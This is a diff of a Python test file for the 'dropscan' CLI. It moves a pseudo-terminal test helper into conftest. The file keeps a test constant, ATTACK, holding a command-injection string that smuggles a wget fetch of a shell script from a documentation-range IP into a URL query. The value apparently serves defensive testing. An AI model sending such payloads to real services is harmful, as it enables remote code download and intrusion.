@@ -5,47 +5,16 @@ from __future__ import annotations
 
 import json
 import os
-import pty
-import select
-import subprocess
-import sys
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
-from conftest import combined_line
+from conftest import combined_line, on_a_terminal
 from dropscan.cli import app
 from dropscan.errors import UsageError
 from dropscan.timeutil import parse_when
 
 ATTACK = "/x?c=;wget http://203.0.113.9/a.sh"
-
-
-def on_a_terminal(args: list[str]) -> tuple[int, str]:
-    """Run the CLI with stdout and stderr on a pseudo-terminal, as a user at a shell would."""
-    master, slave = pty.openpty()
-    proc = subprocess.Popen(
-        [sys.executable, "-c", "from dropscan.cli import main; main()", *args],
-        stdin=subprocess.DEVNULL,
-        stdout=slave,
-        stderr=slave,
-        env={**os.environ, "NO_COLOR": "1"},
-    )
-    os.close(slave)
-    out = b""
-    while True:
-        ready, _, _ = select.select([master], [], [], 60)
-        if not ready:
-            break
-        try:
-            chunk = os.read(master, 65536)
-        except OSError:  # EIO: the child closed the terminal
-            break
-        if not chunk:
-            break
-        out += chunk
-    os.close(master)
-    return proc.wait(60), out.decode()
 
 
 def test_quiet_is_silent_on_a_terminal_when_nothing_is_new(tmp_path):
